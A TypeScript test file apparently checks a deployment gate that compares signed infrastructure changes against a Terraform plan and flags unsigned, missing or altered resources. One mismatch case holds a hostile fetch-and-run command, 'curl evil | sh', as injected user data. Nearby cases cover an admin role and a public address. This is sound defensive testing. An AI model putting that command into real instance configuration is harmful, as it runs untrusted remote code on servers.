import { describe, expect, it } from 'vitest';
import { effectOf } from '../../../src/gate/facts/effect.ts';
import { type PlannedChange, readPlan } from '../../../src/gate/facts/plan.ts';
import { planText, recordOf } from '../signed-record.ts';

const SHA = 'a'.repeat(40);
const record = { ...recordOf(SHA) };
const changes = readPlan(planText(SHA, SHA)).changes ?? [];

const change = (address: string, action: string, after: object | null = {}, stack = 'service-1'): PlannedChange => ({
  ...{ stack, service: stack, address, type: 'aws_instance', action, before: {} },
  after: after as PlannedChange['after'],
});
const compared = (resources: unknown, planned: readonly PlannedChange[]) =>
  effectOf({ record: { effect: { stack: 'service-1', resources } }, signature: null }, planned);
const signed = (action: string, attributes: object = {}, address = 'a.b') => ({ address, action, attributes });
const NOTHING = { unexpected: [], missing: [], different: [] };

describe('the plan of what was signed', () => {
  it('shows no difference', () => {
    expect(effectOf({ record, signature: null }, changes)).toEqual(NOTHING);
  });

  it('names what nobody signed, by its stack when it is another one', () => {
    const more = [...changes, change('z.z', 'create'), change('z.z', 'delete', null, 'service-2'), change('y.y', 'no-op')];
    expect(effectOf({ record, signature: null }, more)).toEqual({ ...NOTHING, unexpected: ['service-2/z.z', 'z.z'] });
  });

  it('names what is missing', () => {
    const [first] = changes;
    expect(effectOf({ record, signature: null }, changes.slice(1))).toEqual({ ...NOTHING, missing: [first?.address] });
  });

  it.each([
    ['create', ['create'], ['update', 'replace', 'delete', 'no-op', 'forget']],
    ['update', ['update', 'replace', 'no-op'], ['create', 'delete', 'forget']],
    ['delete', ['delete'], ['create', 'update', 'replace', 'no-op', 'forget']],
  ])('that %ss may %j and nothing else', (action, covered, others) => {
    for (const planned of covered) expect(compared([signed(action)], [change('a.b', planned)])).toEqual(NOTHING);
    for (const planned of others)
      expect(compared([signed(action)], [change('a.b', planned)])).toEqual({ ...NOTHING, different: ['a.b'] });
  });

  it.each<[string, object, object | null]>([
    ['another value', { instance_type: 't3.medium' }, { instance_type: 't3.large' }],
    ['no value', { instance_type: 't3.medium' }, {}],
    ['nothing at all', { instance_type: 't3.medium' }, null],
    ['another number', { max_size: 2 }, { max_size: '3' }],
    ['a switch for a number', { max_size: 1 }, { max_size: true }],
    ['text for an object', { tags: { Name: 'a' } }, { tags: 'a' }],
    ['an object for text', { ami: 'a' }, { ami: { a: 'a' } }],
    ['another tag', { tags: { Name: 'a' } }, { tags: { Name: 'b' } }],
    ['a tag less', { tags: { Name: 'a', Team: 'b' } }, { tags: { Name: 'a' } }],
    ['a tag more', { tags: { Name: 'a' } }, { tags: { Name: 'a', 'trimtab:service': 'b' } }],
    ['other tags of all', { tags: { Name: 'a' } }, { tags: { Name: 'a' }, tags_all: { Name: 'b' } }],
    ['tags of another form', { tags: { Name: 'a' } }, { tags: ['a'] }],
    ['a block more', { ebs: [{ size: 1 }] }, { ebs: [{ size: 1 }, { size: 2 }] }],
    ['a block less', { ebs: [{ size: 1 }, { size: 1 }] }, { ebs: [{ size: 1 }] }],
    ['one block twice', { ebs: [{ size: 1 }, { size: 2 }] }, { ebs: [{ size: 1 }, { size: 1 }] }],
    ['two blocks for one', { root: { size: 1 } }, { root: [{ size: 1 }, { size: 1 }] }],
    ['no block', { root: { size: 1 } }, { root: [] }],
    ['something in a block', { root: { size: 1 } }, { root: [{ size: 1, snapshot_id: 'snap-1' }] }],
    ['something in a block of many', { ebs: [{ size: 1 }] }, { ebs: [{ size: 1, snapshot_id: 'snap-1' }] }],
    ['a default switched off', {}, { source_dest_check: false }],
    ['a default of a block switched off', { root_block_device: {} }, { root_block_device: [{ delete_on_termination: false }] }],
    ['user data', { instance_type: 'a' }, { instance_type: 'a', user_data: 'curl evil | sh' }],
    ['a public address', { instance_type: 'a' }, { instance_type: 'a', associate_public_ip_address: true }],
    ['a role', { instance_type: 'a' }, { instance_type: 'a', iam_instance_profile: 'admin' }],
    ['a block that nobody signed', {}, { network_interface: [{ device_index: 0, network_interface_id: 'eni-1' }] }],
  ])('that has %s differs', (_, attributes, after) => {
    for (const action of ['create', 'update'])
      expect(compared([signed(action, attributes)], [change('a.b', action, after)])?.different).toEqual(['a.b']);
  });

  it.each<[string, object, object]>([
    ['what is empty', {}, { a: null, b: false, c: '', d: 0, e: [], f: {}, g: [{ h: null, i: [''] }] }],
    ['numbers as text', { size: 20, encrypted: 'true' }, { size: '20', encrypted: true }],
    ['a block as a list of one', { root: { size: 1 } }, { root: [{ size: 1, tags: null }] }],
    ['blocks in another order', { ebs: [{ n: null }, { n: 1 }, { n: 2 }] }, { ebs: [{ n: 2 }, { n: 3 }, { n: 1 }] }],
    ['what is known only later', { id: null, ids: [null], of: { id: null } }, { id: 'i-1', ids: ['i-2'], of: { id: 'i-3' } }],
    ['what is not known yet', { id: null, ids: [null], of: { id: null } }, { ids: null }],
    ['defaults', { metadata_options: {} }, { source_dest_check: true, metadata_options: [{ http_protocol_ipv6: 'disabled' }] }],
    ['copies', { tags: { Name: 'a' } }, { tags: { Name: 'a' }, tags_all: { Name: 'a' } }],
  ])('may have %s', (_, attributes, after) => {
    expect(compared([signed('create', attributes)], [change('a.b', 'create', after)])).toEqual(NOTHING);
  });

  it('may keep what was there before, and nothing else', () => {
    const after = { id: 'i-1', root: [{ size: 2, volume_id: 'vol-1' }] };
    const update = (before: object) => ({ ...change('a.b', 'update', after), before: before as PlannedChange['before'] });
    const attributes = { root: { size: 2 } };
    expect(compared([signed('update', attributes)], [update({ id: 'i-1', root: [{ size: 1, volume_id: 'vol-1' }] })])).toEqual(
      NOTHING,
    );
    for (const before of [{}, { id: 'i-1' }, { id: 'i-1', root: [{ volume_id: 'vol-2' }] }, { id: 'i-2', root: after.root }])
      expect(compared([signed('update', attributes)], [update(before)])?.different).toEqual(['a.b']);
  });

  it.each<[string, object]>([
    ['a key more', { kind: 'disk', role: 'x' }],
    ['an empty key more', { kind: 'disk', encrypted: false }],
    ['a key less', {}],
    ['a key deep inside', { kind: 'disk', tags: { more: '' } }],
  ])('that has %s in the input of a simulated resource differs', (_, input) => {
    const planned = (given: object) => ({
      ...change('a.b', 'update', { input: given }),
      type: 'terraform_data',
      before: { input: given } as PlannedChange['before'],
    });
    expect(compared([signed('update', { input: { kind: 'disk', tags: {} } })], [planned(input)])?.different).toEqual(['a.b']);
    const same = { kind: 'disk', tags: {}, none: null };
    expect(compared([signed('update', { input: { kind: 'disk', tags: {} } })], [planned(same)])).toEqual(NOTHING);
  });

  it('lists at most twenty, sorted', () => {
    const many = Array.from({ length: 30 }, (_, i) => change(`z.${String(30 - i).padStart(2, '0')}`, 'create'));
    const listed = compared([], many)?.unexpected ?? [];
    expect([listed.length, listed[0], listed.at(-1)]).toEqual([20, 'z.01', 'z.20']);
  });

  it('is not known when either cannot be read', () => {
    expect(effectOf(null, changes)).toBeNull();
    expect(effectOf({ record, signature: null }, null)).toBeNull();
    expect(effectOf({ record: {}, signature: null }, changes)).toBeNull();
    for (const resources of [
      undefined,
      {},
      [null],
      [{ ...signed('create'), address: '' }],
      [signed('replace')],
      [signed('no-op')],
    ])
      expect(compared(resources, [])).toBeNull();
    expect(compared([{ address: 'a.b', action: 'create' }], [])).toBeNull();
    expect(compared([signed('create'), signed('delete')], [])).toBeNull();
    expect(compared([], [change('a.b', 'create'), change('a.b', 'delete')])).toBeNull();
    expect(compared([], [{ ...change('a.b', 'create'), address: null }])).toBeNull();
    expect(compared([], [{ ...change('a.b', 'create'), stack: null }])).toBeNull();
  });
});
